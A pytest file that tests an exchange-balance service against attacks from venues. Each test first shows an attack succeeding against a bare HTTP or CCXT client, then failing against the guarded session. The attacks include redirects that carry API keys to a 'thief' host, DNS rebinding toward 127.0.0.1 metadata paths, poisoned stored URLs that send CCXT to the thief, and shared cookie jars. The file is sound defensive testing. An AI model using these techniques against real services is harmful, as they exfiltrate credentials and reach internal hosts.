"""Attacks from the side of the venues: each first succeeds against the same thing unguarded, and then fails here."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.abc import AbstractResolver, ResolveResult
from exchange_service_ccxt_generic.simulator import BinanceSimulator, SimulatedWallet

from exchange_service.errors import VenueMalformed, VenueUnavailable
from exchange_service.model import Environment, ExchangeMetadata
from exchange_service.plugin_api import Balance, VenueCall
from exchange_service.testing import Fault, LoopbackVenue
from exchange_service.venues.fetching import Target
from exchange_service.venues.http import VenueHttp
from exchange_service.venues.http_pool import VenueHttpPool
from exchange_service.venues.priority import Priority
from tests.harness import (
    ScriptedPlugin,
    balance_request,
    failure,
    holding,
    listing,
    registry_of,
    serving,
    totals,
    until,
)

KEY = {"X-Key": "the-key"}
ROW: dict[str, Any] = {"api_key": "alicekey", "api_secret": "alicesecret"}


class Recorder(LoopbackVenue):
    """Takes every request, and gives each caller a cookie of its own."""

    def routes(self) -> list[web.RouteDef]:
        return [web.route("*", "/{path:.*}", self._answer)]

    async def _answer(self, request: web.Request) -> web.Response:
        response = web.json_response({})
        response.set_cookie("session", f"of {request.headers.get('X-Key')}")
        return response

    @property
    def keys_seen(self) -> list[str]:
        return [request.headers["X-Key"] for request in self.requests if "X-Key" in request.headers]


@pytest.fixture
async def venue() -> AsyncIterator[Recorder]:
    async with Recorder() as running:
        yield running


@pytest.fixture
async def thief() -> AsyncIterator[Recorder]:
    async with Recorder() as running:
        yield running


def exchange_at(url: str) -> ExchangeMetadata:
    return listing("venue", environments=(Environment("production", {"api": url}),))


@pytest.fixture
async def pool() -> AsyncIterator[VenueHttpPool]:
    made = VenueHttpPool(timeout=5.0)
    yield made
    await made.close()


def guarded(pool: VenueHttpPool, url: str, *, operators: bool = True) -> VenueHttp:
    """The session that a plugin is given: for an operator's host, or for one of the manifest alone."""
    exchange = exchange_at(url)
    return pool.http(exchange, exchange.environments[0], url if operators else "")


@pytest.mark.threat("T6", attack=True)
@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_redirect_carries_the_key_to_another_host_and_is_refused_here(
    venue: Recorder, thief: Recorder, pool: VenueHttpPool, status: int
) -> None:
    venue.fail(Fault(status=status, headers={"Location": f"{thief.url}/collect"}))
    async with aiohttp.ClientSession() as bare:
        await bare.get(f"{venue.url}/balance", headers=KEY)
    assert thief.keys_seen == ["the-key"]
    thief.requests.clear()
    with pytest.raises(VenueMalformed, match="redirect"):
        await guarded(pool, venue.url).get(f"{venue.url}/balance", headers=KEY)
    assert thief.requests == []


class Rebinding(AbstractResolver):
    """A name whose owner answers with a public address first, and then with one inside our network."""

    def __init__(self, *addresses: str) -> None:
        self.addresses = list(addresses)

    async def resolve(
        self, host: str, port: int = 0, family: socket.AddressFamily = socket.AF_INET
    ) -> list[ResolveResult]:
        address = self.addresses.pop(0) if len(self.addresses) > 1 else self.addresses[0]
        return [ResolveResult(hostname=host, host=address, port=port, family=socket.AF_INET, proto=0, flags=0)]

    async def close(self) -> None:
        """Nothing is open."""


@pytest.mark.threat("T7", attack=True)
class TestInside:
    async def test_a_name_that_resolves_to_an_inside_address_is_reached_by_a_bare_session_and_not_by_ours(
        self, thief: Recorder
    ) -> None:
        port = thief.url.rpartition(":")[2]
        url = f"http://venue.example:{port}/latest/meta-data"
        async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(resolver=Rebinding("127.0.0.1"))) as bare:
            await bare.get(url, headers=KEY)
        assert thief.keys_seen == ["the-key"]
        thief.requests.clear()
        pool = VenueHttpPool(timeout=5.0, resolver=Rebinding("127.0.0.1"))
        with pytest.raises(VenueUnavailable, match="public internet"):
            await guarded(pool, f"http://venue.example:{port}", operators=False).get(url, headers=KEY)
        await pool.close()
        assert thief.requests == []

    async def test_a_name_that_resolves_differently_after_a_check_is_caught_here(self, thief: Recorder) -> None:
        port = thief.url.rpartition(":")[2]
        url = f"http://venue.example:{port}"
        names = Rebinding("93.184.215.14", "127.0.0.1")
        (looked_at,) = await names.resolve("venue.example")
        assert looked_at["host"] == "93.184.215.14"
        async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(resolver=names)) as bare:
            await bare.get(url, headers=KEY)
        assert thief.keys_seen == ["the-key"]
        thief.requests.clear()
        names = Rebinding("93.184.215.14", "127.0.0.1")
        pool = VenueHttpPool(timeout=5.0, resolver=names)
        await names.resolve("venue.example")
        with pytest.raises(VenueUnavailable, match="public internet"):
            await guarded(pool, url, operators=False).get(url, headers=KEY)
        await pool.close()
        assert thief.requests == []

    async def test_a_plugin_reaches_another_host_with_a_bare_session_and_not_with_ours(
        self, tmp_path: Path, venue: Recorder, thief: Recorder
    ) -> None:
        async def unguarded(call: VenueCall) -> Balance:
            async with aiohttp.ClientSession() as bare:
                await bare.get(call.credential.metadata["url"], headers=KEY)
            return holding(("BTC", "1"))

        async def through_the_session(call: VenueCall) -> Balance:
            await call.http.get(call.credential.metadata["url"], headers=KEY)
            return holding(("BTC", "1"))

        plugin = ScriptedPlugin(exchange_at("https://venue.example"), answer=unguarded)
        async with serving(tmp_path, registry=registry_of(plugin), venue_urls={"venue": venue.url}) as running:
            await running.store("venue", metadata={"url": f"{thief.url}/collect"})
            await running.client.get_balance("alice", "venue")
            assert thief.keys_seen == ["the-key"]
            thief.requests.clear()
            plugin.answer = through_the_session
            failed = await failure(running.stub.GetBalance(balance_request("venue", user_id="alice", max_age={})))
        assert failed.reason == "PLUGIN_FAILED"
        assert thief.requests == []


@pytest.mark.threat("T16", attack=True)
async def test_one_users_cookie_is_sent_with_anothers_request_and_not_here(
    venue: Recorder, pool: VenueHttpPool
) -> None:
    # aiohttp's jar keeps cookies of names only, unless configured otherwise.
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as shared:
        for key in ("of-bob", "of-alice"):
            await shared.get(venue.url, headers={"X-Key": key})
    assert venue.requests[-1].headers["Cookie"] == 'session="of of-bob"'
    http = guarded(pool, venue.url)
    for key in ("of-bob", "of-alice"):
        await http.get(venue.url, headers={"X-Key": key})
    assert "Cookie" not in venue.requests[-1].headers


@pytest.fixture
async def binance() -> AsyncIterator[BinanceSimulator]:
    async with BinanceSimulator() as running:
        running.add_wallet(SimulatedWallet("alicekey", "alicesecret", {"BTC": ("0.48210000", "0.01000000")}))
        yield running


def bare_ccxt(binance: BinanceSimulator, **stored: Any) -> Any:
    """CCXT as it is often used: with everything that a user stored, and no guard."""
    import ccxt.async_support

    exchange = ccxt.async_support.binance({"apiKey": "alicekey", "secret": "alicesecret", **stored})
    exchange.set_markets([])
    if "urls" not in stored:
        exchange.urls["api"] = {
            name: f"{binance.url}/{url.partition('//')[2].partition('/')[2]}"
            for name, url in exchange.urls["api"].items()
        }
    return exchange


@pytest.mark.threat("T5", attack=True)
async def test_stored_metadata_send_ccxt_to_another_host_and_are_refused_here(
    tmp_path: Path, binance: BinanceSimulator, thief: Recorder
) -> None:
    evil = {"urls": {"api": dict.fromkeys(("public", "private", "sapi", "v1"), thief.url)}}
    exchange = bare_ccxt(binance, **evil)
    await exchange.private_get_account()
    await exchange.close()
    assert thief.requests[0].headers["X-MBX-APIKEY"] == "alicekey"
    thief.requests.clear()
    async with serving(tmp_path, venue_urls={"binance": binance.url}) as running:
        await running.store("binance", metadata=evil, **ROW)
        failed = await failure(running.stub.GetBalance(balance_request("binance")))
    assert failed.reason == "CREDENTIAL_INVALID"
    assert thief.requests == []


@pytest.mark.threat("T15", attack=True)
@pytest.mark.parametrize(
    "fault",
    [Fault.html(200), Fault(body=b""), Fault(body=b"{}"), Fault(body=b'{"balances": [{"asset": "BT')],
    ids=["a page", "nothing", "an empty object", "a truncated answer"],
)
async def test_a_malformed_answer_is_an_empty_balance_to_ccxt_and_an_error_here(
    tmp_path: Path, binance: BinanceSimulator, fault: Fault
) -> None:
    binance.fail(fault).path = "/api/v3/account"
    exchange = bare_ccxt(binance)
    believed = await exchange.fetch_balance()
    await exchange.close()
    assert believed["total"] == {}
    async with serving(tmp_path, venue_urls={"binance": binance.url}) as running:
        await running.store("binance", **ROW)
        failed = await failure(running.stub.GetBalance(balance_request("binance")))
        binance.recover()
        assert failed.reason == "VENUE_MALFORMED"
        assert totals((await running.client.get_balance("alice", "binance")).balance) == {"BTC": "0.4921"}


@pytest.mark.threat("T14", attack=True)
async def test_callers_at_the_same_time_cost_a_request_each_and_here_one_for_all(tmp_path: Path) -> None:
    together = asyncio.Event()

    async def answer(_: VenueCall) -> Balance:
        await together.wait()
        return holding(("BTC", "1.50"))

    plugin = ScriptedPlugin(answer=answer)
    async with serving(tmp_path, registry=registry_of(plugin)) as running:
        await running.store()
        account, entry = running.service.registry.account("alice", "fakex", "")
        reference = await running.service.store.find(account)
        assert reference is not None
        venues, deadline = running.service.venues, asyncio.get_running_loop().time() + 10
        target = Target(account, entry, reference)
        # Straight to the plugin: as many requests as callers.
        bare = [asyncio.ensure_future(venues.fetch(target, deadline, Priority())) for _ in range(50)]
        together.set()
        await asyncio.gather(*bare)
        assert len(plugin.calls) == 50
        plugin.calls.clear()
        together.clear()
        calls = [asyncio.ensure_future(running.client.get_balance("alice", "fakex")) for _ in range(50)]
        await until(lambda: plugin.calls, "the first fetch")
        together.set()
        await asyncio.gather(*calls)
        assert len(plugin.calls) == 1
